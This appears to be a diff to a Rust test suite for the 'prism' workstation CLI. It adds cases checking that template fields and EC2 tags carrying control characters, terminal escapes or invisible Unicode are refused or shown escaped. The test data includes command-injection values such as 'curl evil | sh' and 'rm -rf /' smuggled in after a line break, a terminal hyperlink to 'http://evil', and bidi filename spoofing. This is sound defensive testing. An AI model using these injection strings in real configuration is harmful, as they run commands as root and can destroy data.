@@ -116,10 +116,14 @@ enum Input {
     },
     /// Files written to `$PRISM_HOME/templates/`; the first is validated. `names` are the
     /// template names the files define (a bad one the catalogue lists must not launch).
+    /// `import`: a copy of the first, outside the directory, must be refused by `prism
+    /// template import` too. `skipped`: `prism templates` must report the first as skipped.
     Files {
         what: String,
         files: Vec<(String, Vec<u8>)>,
         names: Vec<String>,
+        import: bool,
+        skipped: bool,
     },
     Http(Http),
 }
@@ -161,6 +165,28 @@ fn tfile(id: &str, what: &str, files: Vec<(&str, Vec<u8>)>, names: &[&str], frag
             what: what.into(),
             files: files.into_iter().map(|(n, b)| (n.to_string(), b)).collect(),
             names: names.iter().map(|n| n.to_string()).collect(),
+            import: false,
+            skipped: false,
+        },
+        expect: 1,
+        fragment: frag.into(),
+    }
+}
+
+/// A template `name` with a control or invisible character in one field: `template validate`
+/// and `template import` must refuse it with `frag` (naming the field and the character), and
+/// the catalogue must report it as skipped. The file is `ID.yaml` (without `tf-`).
+fn tctl(id: &str, what: &str, name: &str, yaml: &str, frag: &str) -> Case {
+    let file = format!("{}.yaml", id.trim_start_matches("tf-"));
+    Case {
+        id: id.into(),
+        kind: Kind::TemplateFile,
+        input: Input::Files {
+            what: what.into(),
+            files: vec![(file, yaml.as_bytes().to_vec())],
+            names: vec![name.to_string()],
+            import: true,
+            skipped: true,
         },
         expect: 1,
         fragment: frag.into(),
@@ -231,6 +257,7 @@ fn strings(v: &[&str]) -> Vec<String> {
 fn corpus() -> Vec<Case> {
     let mut v = cli_cases();
     v.extend(template_file_cases());
+    v.extend(template_control_char_cases());
     v.extend(api_cases());
     v
 }
@@ -953,6 +980,262 @@ fn template_file_cases() -> Vec<Case> {
     ]
 }
 
+/// Control and invisible formatting characters in every class of template field (issue 14):
+/// each must be refused by `template validate` and `template import`, naming the field.
+fn template_control_char_cases() -> Vec<Case> {
+    let doc = |name: &str, rest: &str| format!("name: {name}\nbase: ubuntu-22.04\n{rest}");
+    let lf = "a line break (U+000A)";
+    let cr = "a line break (U+000D)";
+    let esc = "a terminal escape (U+001B)";
+    let csi = "a terminal escape (U+009B)";
+    let nul = "a NUL character (U+0000)";
+    let bel = "a control character (U+0007)";
+    let del = "a control character (U+007F)";
+    let rlo = "an invisible formatting character, which can reorder or hide text (U+202E)";
+    let zwsp = "an invisible formatting character, which can reorder or hide text (U+200B)";
+    let f = |field: &str, problem: &str| format!("field '{field}': contains {problem}");
+    vec![
+        tctl(
+            "tf-ctl-version-newline-injection",
+            r#"`version: "1\ntouch /tmp/pwned"` (the line break would end the first-boot script's comment; `touch` would run as root)"#,
+            "ctl-inject",
+            &doc("ctl-inject", "version: \"1\\ntouch /tmp/pwned\"\npackages:\n  system: [vim]\n"),
+            &f("version", lf),
+        ),
+        tctl(
+            "tf-ctl-version-block-scalar",
+            "`version: |` with the lines `1` and `curl evil | sh`",
+            "ctl-block",
+            &doc("ctl-block", "version: |\n  1\n  curl evil | sh\n"),
+            &f("version", lf),
+        ),
+        tctl(
+            "tf-ctl-version-escape",
+            r#"`version: "1\e]0;owned\a"` (sets the terminal's title)"#,
+            "ctl-ver-esc",
+            &doc("ctl-ver-esc", "version: \"1\\e]0;owned\\a\"\n"),
+            &f("version", esc),
+        ),
+        tctl(
+            "tf-ctl-version-cr",
+            r#"`version: "2\r1"` (a carriage return overwrites the line)"#,
+            "ctl-ver-cr",
+            &doc("ctl-ver-cr", "version: \"2\\r1\"\n"),
+            &f("version", cr),
+        ),
+        tctl(
+            "tf-ctl-display-name-escape",
+            r#"`name: "Evil\e[2J"` next to `slug: ctl-display`"#,
+            "ctl-display",
+            "name: \"Evil\\e[2J\"\nslug: ctl-display\nbase: ubuntu-22.04\n",
+            &f("name", esc),
+        ),
+        tctl(
+            "tf-ctl-name-zero-width",
+            r#"`name: "ctl\u200Bname"` (a zero-width space)"#,
+            "ctl\u{200b}name",
+            "name: \"ctl\\u200Bname\"\nbase: ubuntu-22.04\n",
+            &f("name", zwsp),
+        ),
+        tctl(
+            "tf-ctl-slug-bidi",
+            r#"`slug: "ctl\u202Eslug"` (a right-to-left override)"#,
+            "ctl\u{202e}slug",
+            "name: Bidi\nslug: \"ctl\\u202Eslug\"\nbase: ubuntu-22.04\n",
+            &f("slug", rlo),
+        ),
+        tctl(
+            "tf-ctl-description-csi",
+            r#"`description: "a\x9B31mred"` (an 8-bit CSI)"#,
+            "ctl-desc-csi",
+            &doc("ctl-desc-csi", "description: \"a\\x9B31mred\"\n"),
+            &f("description", csi),
+        ),
+        tctl(
+            "tf-ctl-description-cr",
+            r#"`description: "ok\rEVIL"`"#,
+            "ctl-desc-cr",
+            &doc("ctl-desc-cr", "description: \"ok\\rEVIL\"\n"),
+            &f("description", cr),
+        ),
+        tctl(
+            "tf-ctl-base-nul",
+            r#"`base: "ubuntu-22.04\0"`"#,
+            "ctl-base",
+            "name: ctl-base\nbase: \"ubuntu-22.04\\0\"\n",
+            &f("base", nul),
+        ),
+        tctl(
+            "tf-ctl-inherits",
+            r#"`inherits: ["python-ml\e[8m"]`"#,
+            "ctl-inherits",
+            &doc("ctl-inherits", "inherits: [\"python-ml\\e[8m\"]\n"),
+            &f("inherits[0]", esc),
+        ),
+        tctl(
+            "tf-ctl-package-manager",
+            r#"`package_manager: "apt\nid"`"#,
+            "ctl-pm",
+            &doc("ctl-pm", "package_manager: \"apt\\nid\"\n"),
+            &f("package_manager", lf),
+        ),
+        tctl(
+            "tf-ctl-packages-system",
+            r#"`packages.system: [vim, "git\x7F"]`"#,
+            "ctl-sys",
+            &doc("ctl-sys", "packages:\n  system: [vim, \"git\\x7F\"]\n"),
+            &f("packages.system[1]", del),
+        ),
+        tctl(
+            "tf-ctl-packages-conda",
+            r#"`packages.conda: ["numpy\nrm"]`"#,
+            "ctl-conda",
+            &doc("ctl-conda", "packages:\n  conda: [\"numpy\\nrm\"]\n"),
+            &f("packages.conda[0]", lf),
+        ),
+        tctl(
+            "tf-ctl-packages-pip",
+            r#"`packages.pip: ["seaborn\r"]`"#,
+            "ctl-pip",
+            &doc("ctl-pip", "packages:\n  pip: [\"seaborn\\r\"]\n"),
+            &f("packages.pip[0]", cr),
+        ),
+        tctl(
+            "tf-ctl-packages-spack",
+            r#"`packages.spack: ["gcc\a"]`"#,
+            "ctl-spack",
+            &doc("ctl-spack", "packages:\n  spack: [\"gcc\\a\"]\n"),
+            &f("packages.spack[0]", bel),
+        ),
+        tctl(
+            "tf-ctl-users-name",
+            r#"`users: [{name: "bob\nid"}]`"#,
+            "ctl-user",
+            &doc("ctl-user", "users:\n  - name: \"bob\\nid\"\n"),
+            &f("users[0].name", lf),
+        ),
+        tctl(
+            "tf-ctl-users-groups",
+            r#"`users: [{name: bob, groups: ["sudo\e"]}]`"#,
+            "ctl-group",
+            &doc("ctl-group", "users:\n  - name: bob\n    groups: [\"sudo\\e\"]\n"),
+            &f("users[0].groups[0]", esc),
+        ),
+        tctl(
+            "tf-ctl-services",
+            r#"`services: [{name: web, note: "x\x9B2J"}]` (any string of an entry)"#,
+            "ctl-svc",
+            &doc("ctl-svc", "services:\n  - name: web\n    note: \"x\\x9B2J\"\n"),
+            &f("services[0].note", csi),
+        ),
+        tctl(
+            "tf-ctl-amis-value",
+            r#"AMI id `"ami-0123456789abcdef0\n"` under `ami_config.amis.us-east-1.x86_64`"#,
+            "ctl-amis",
+            "name: ctl-amis\nbase: ami-based\nami_config:\n  amis:\n    us-east-1:\n      x86_64: \"ami-0123456789abcdef0\\n\"\n",
+            &f("ami_config.amis.us-east-1.x86_64", lf),
+        ),
+        tctl(
+            "tf-ctl-amis-region-key",
+            r#"region key `"us-east-1\e"` under `ami_config.amis`"#,
+            "ctl-amis-key",
+            "name: ctl-amis-key\nbase: ami-based\nami_config:\n  amis:\n    \"us-east-1\\e\":\n      x86_64: ami-0123456789abcdef0\n",
+            &format!("field 'ami_config.amis.us-east-1\\u{{1b}}': the key 'us-east-1\\u{{1b}}' contains {esc}"),
+        ),
+        tctl(
+            "tf-ctl-ami-mappings",
+            r#"`ami_config.ami_mappings: {us-east-1: "ami-0123456789abcdef0\u202E"}`"#,
+            "ctl-map",
+            "name: ctl-map\nbase: ami-based\nami_config:\n  ami_mappings:\n    us-east-1: \"ami-0123456789abcdef0\\u202E\"\n",
+            &f("ami_config.ami_mappings.us-east-1", rlo),
+        ),
+        tctl(
+            "tf-ctl-ami-search",
+            r#"`ami_config.ami_search.name_pattern: "ubuntu-*\e[0m"`"#,
+            "ctl-search",
+            "name: ctl-search\nbase: ami-based\nami_config:\n  ami_search:\n    owner: amazon\n    name_pattern: \"ubuntu-*\\e[0m\"\n",
+            &f("ami_config.ami_search.name_pattern", esc),
+        ),
+        tctl(
+            "tf-ctl-instance-types",
+            r#"`ami_config.instance_types: {arm64: "t4g.large\r"}`"#,
+            "ctl-itypes",
+            &doc("ctl-itypes", "ami_config:\n  instance_types:\n    arm64: \"t4g.large\\r\"\n"),
+            &f("ami_config.instance_types.arm64", cr),
+        ),
+        tctl(
+            "tf-ctl-ssh-user",
+            r#"`ami_config.ssh_user: "ubuntu\nrm -rf /"`"#,
+            "ctl-ssh",
+            &doc("ctl-ssh", "ami_config:\n  ssh_user: \"ubuntu\\nrm -rf /\"\n"),
+            &f("ami_config.ssh_user", lf),
+        ),
+        tctl(
+            "tf-ctl-user-data-script",
+            r##"`ami_config.user_data_script: "#!/bin/sh\necho \e]0;x\a\n"` (line breaks are fine there, ESC is not)"##,
+            "ctl-script",
+            &doc("ctl-script", "ami_config:\n  user_data_script: \"#!/bin/sh\\necho \\e]0;x\\a\\n\"\n"),
+            &format!("field 'ami_config.user_data_script': contains {esc}; only line breaks and tabs are allowed here"),
+        ),
+        tctl(
+            "tf-ctl-instance-type",
+            r#"`instance_defaults.type: "t3.large\n"`"#,
+            "ctl-type",
+            &doc("ctl-type", "instance_defaults:\n  type: \"t3.large\\n\"\n"),
+            &f("instance_defaults.type", lf),
+        ),
+        tctl(
+            "tf-ctl-cost-key",
+            r#"`instance_defaults.estimated_cost_per_hour: {"x86_64\e": 0.1}`"#,
+            "ctl-cost",
+            &doc("ctl-cost", "instance_defaults:\n  estimated_cost_per_hour:\n    \"x86_64\\e\": 0.1\n"),
+            &format!("field 'instance_defaults.estimated_cost_per_hour.x86_64\\u{{1b}}': the key 'x86_64\\u{{1b}}' contains {esc}"),
+        ),
+        tctl(
+            "tf-ctl-tags-value",
+            r#"`tags: {team: "ml\e[8m"}` (hidden text)"#,
+            "ctl-tag",
+            &doc("ctl-tag", "tags:\n  team: \"ml\\e[8m\"\n"),
+            &f("tags.team", esc),
+        ),
+        tctl(
+            "tf-ctl-tags-key",
+            r#"`tags: {"te\x9Bam": ml}` (an 8-bit CSI in a key)"#,
+            "ctl-tag-key",
+            &doc("ctl-tag-key", "tags:\n  \"te\\x9Bam\": ml\n"),
+            &format!("field 'tags.te\\u{{9b}}am': the key 'te\\u{{9b}}am' contains {csi}"),
+        ),
+        tctl(
+            "tf-ctl-presentation",
+            r#"`icon: "\e]8;;http://evil\e\\x\e]8;;\e\\"` (a terminal hyperlink)"#,
+            "ctl-icon",
+            &doc("ctl-icon", "icon: \"\\e]8;;http://evil\\e\\\\x\\e]8;;\\e\\\\\"\n"),
+            &f("icon", esc),
+        ),
+        tctl(
+            "tf-ctl-parameters",
+            r#"`parameters: {size: {default: "M\0"}}` (an opaque value)"#,
+            "ctl-params",
+            &doc("ctl-params", "parameters:\n  size:\n    default: \"M\\0\"\n"),
+            &f("parameters.size.default", nul),
+        ),
+        tctl(
+            "tf-ctl-lineage",
+            r#"`source: saved-from-instance`, `original_template_version: "1\nid"`"#,
+            "ctl-lineage",
+            &doc("ctl-lineage", "source: saved-from-instance\noriginal_template_version: \"1\\nid\"\n"),
+            &f("original_template_version", lf),
+        ),
+        tctl(
+            "tf-ctl-project",
+            r#"`project: "lab\u2028rm"` (a line separator)"#,
+            "ctl-project",
+            &doc("ctl-project", "project: \"lab\\u2028rm\"\n"),
+            &f("project", "a line break (U+2028)"),
+        ),
+    ]
+}
+
 fn api_cases() -> Vec<Case> {
     // A well-formed save of `busy` as `ok-env`, dry run, with `extra` fields.
     let dry = |extra: &str| {
@@ -1177,9 +1460,19 @@ impl Case {
                 let words: Vec<String> = args.iter().map(|a| shell_word(a)).collect();
                 format!("prism {}", words.join(" "))
             }
-            Input::Files { what, files, .. } => {
+            Input::Files {
+                what,
+                files,
+                import,
+                ..
+            } => {
                 let names: Vec<&str> = files.iter().map(|(n, _)| n.as_str()).collect();
-                format!("{} — {what}", names.join(" + "))
+                let also = if *import {
+                    " (validated and imported)"
+                } else {
+                    ""
+                };
+                format!("{} — {what}{also}", names.join(" + "))
             }
             Input::Http(h) => {
                 let path = h.path.replace("{home}", "$PRISM_HOME");
@@ -1322,6 +1615,25 @@ fn panic_check(what: &str, text: &str, p: &mut Problems) {
         if text.contains(m) {
             p.push(format!("{what} shows {m:?}"));
         }
+    }
+}
+
+/// Whether `c` can drive a terminal or hide text (the CLI's `output::is_hazardous`).
+fn is_hazardous(c: char) -> bool {
+    c.is_control()
+        || matches!(c,
+            '\u{061C}'
+            | '\u{200B}'..='\u{200F}'
+            | '\u{2028}'..='\u{202E}'
+            | '\u{2060}'..='\u{2064}'
+            | '\u{2066}'..='\u{2069}'
+            | '\u{FEFF}')
+}
+
+/// Output must not carry a raw control or invisible formatting character (line breaks aside).
+fn raw_check(what: &str, text: &str, p: &mut Problems) {
+    if let Some(c) = text.chars().find(|&c| is_hazardous(c) && c != '\n') {
+        p.push(format!("{what} shows a raw U+{:04X}", c as u32));
     }
 }
 
@@ -1528,6 +1840,8 @@ impl World {
         c: &Case,
         files: &[(String, Vec<u8>)],
         names: &[String],
+        import: bool,
+        skipped: bool,
         n: usize,
     ) -> Problems {
         let mut p = vec![];
@@ -1544,8 +1858,44 @@ impl World {
             p.push(format!("validate output lacks {:?}", c.fragment));
         }
         panic_check("validate output", &o.text(), &mut p);
+        raw_check("validate output", &o.text(), &mut p);
         if !p.is_empty() {
             p.push(format!("validate output: {}", excerpt(&o.text())));
+        }
+        if import {
+            // From outside the directory, as a user would import a file they were given.
+            let outside = self.home().join("to-import");
+            std::fs::create_dir_all(&outside).unwrap();
+            let copy = outside.join(&files[0].0);
+            std::fs::write(&copy, &files[0].1).unwrap();
+            let o = self.run(&["template", "import", &copy.display().to_string()]);
+            let before = p.len();
+            if o.code != Some(i32::from(c.expect)) {
+                p.push(format!("import exit {:?}, expected {}", o.code, c.expect));
+            }
+            if !o.text().contains(&c.fragment) {
+                p.push(format!("import output lacks {:?}", c.fragment));
+            }
+            panic_check("import output", &o.text(), &mut p);
+            raw_check("import output", &o.text(), &mut p);
+            if p.len() > before {
+                p.push(format!("import output: {}", excerpt(&o.text())));
+            }
+            std::fs::remove_file(&copy).unwrap();
+        }
+        // The table shows no raw control character, and a file that does not load is reported.
+        let table = self.run(&["templates"]);
+        raw_check("`prism templates` output", &table.text(), &mut p);
+        if skipped
+            && !table
+                .stderr
+                .contains(&format!("skipped {}", dir.join(&files[0].0).display()))
+        {
+            p.push(format!(
+                "`prism templates` does not report {} as skipped: {}",
+                files[0].0,
+                excerpt(&table.stderr)
+            ));
         }
         // The catalogue still works, python-ml is still the built-in, and a bad template it
         // lists anyway cannot be launched.
@@ -1709,7 +2059,13 @@ fn run_kind(kind: Kind) {
         let t = Instant::now();
         let problems = match &c.input {
             Input::Cli { args, .. } => w.run_cli(c, args),
-            Input::Files { files, names, .. } => w.run_files(c, files, names, n),
+            Input::Files {
+                files,
+                names,
+                import,
+                skipped,
+                ..
+            } => w.run_files(c, files, names, *import, *skipped, n),
             Input::Http(h) => w.run_http(c, h, daemon.as_ref().unwrap()),
         };
         slow.push((t.elapsed().as_secs_f64(), &c.id));
@@ -1790,6 +2146,72 @@ fn template_file_bad_input_is_refused_and_changes_nothing() {
 #[test]
 fn api_bad_input_is_refused_and_changes_nothing() {
     run_kind(Kind::Api);
+}
+
+/// Text that reaches the CLI from EC2 rather than from a template file: tags on `busy`
+/// carrying terminal controls (an 8-bit CSI, DEL, NEL, a bidi override, a zero-width space;
+/// C0 controls such as ESC cannot be tested here, as moto's XML would not parse) are shown escaped
+/// in the table, and JSON and YAML escape them too while keeping the value.
+#[test]
+fn hostile_tags_from_ec2_never_reach_the_terminal_raw() {
+    let w = World::new();
+    w.setup();
+    let region = REGIONS[0];
+    let busy =
+        w.rt.block_on(
+            w.cloud
+                .describe_instances(region, &InstanceFilter::default()),
+        )
+        .unwrap()
+        .into_iter()
+        .find(|i| i.tags.get("prism:name").map(String::as_str) == Some(WS))
+        .expect("busy runs");
+    let version = "1\u{9b}2J\u{7f}";
+    let project = "lab\u{202e}gpj.exe";
+    let size = "M\u{85}\u{200b}";
+    let tags = prism_cloud::Tags::from([
+        ("prism:template-version".to_string(), version.to_string()),
+        ("prism:project".to_string(), project.to_string()),
+        ("prism:size".to_string(), size.to_string()),
+    ]);
+    w.rt.block_on(
+        w.cloud
+            .create_tags(region, std::slice::from_ref(&busy.id), &tags),
+    )
+    .unwrap();
+
+    let mut p = vec![];
+    let table = w.run(&["list"]);
+    assert_eq!(table.code, Some(0), "{}", table.text());
+    assert!(!table.stderr.contains("warning"), "{}", table.text());
+    raw_check("`prism list`", &table.text(), &mut p);
+    for shown in ["python-ml@1\\u{9b}2J\\u{7f}", "lab\\u{202e}gpj.exe"] {
+        if !table.stdout.contains(shown) {
+            p.push(format!("`prism list` lacks {shown}: {}", table.text()));
+        }
+    }
+    for format in ["json", "yaml"] {
+        let o = w.run(&["list", "-o", format]);
+        assert_eq!(o.code, Some(0), "{}", o.text());
+        raw_check(&format!("`prism list -o {format}`"), &o.text(), &mut p);
+        let v: Value = if format == "json" {
+            serde_json::from_str(&o.stdout).unwrap()
+        } else {
+            serde_saphyr::from_str(&o.stdout).unwrap()
+        };
+        let row = v["workstations"]
+            .as_array()
+            .and_then(|l| l.iter().find(|r| r["name"] == WS))
+            .cloned()
+            .unwrap_or_default();
+        // The values survive, escaped only in the text.
+        if row["template_version"] != version || row["project"] != project {
+            p.push(format!(
+                "`prism list -o {format}` changed the values: {row}"
+            ));
+        }
+    }
+    assert!(p.is_empty(), "{}", p.join("\n"));
 }
 
 /// Checks the corpus itself and that `docs/BAD_INPUT.md` shows it; prints the table.
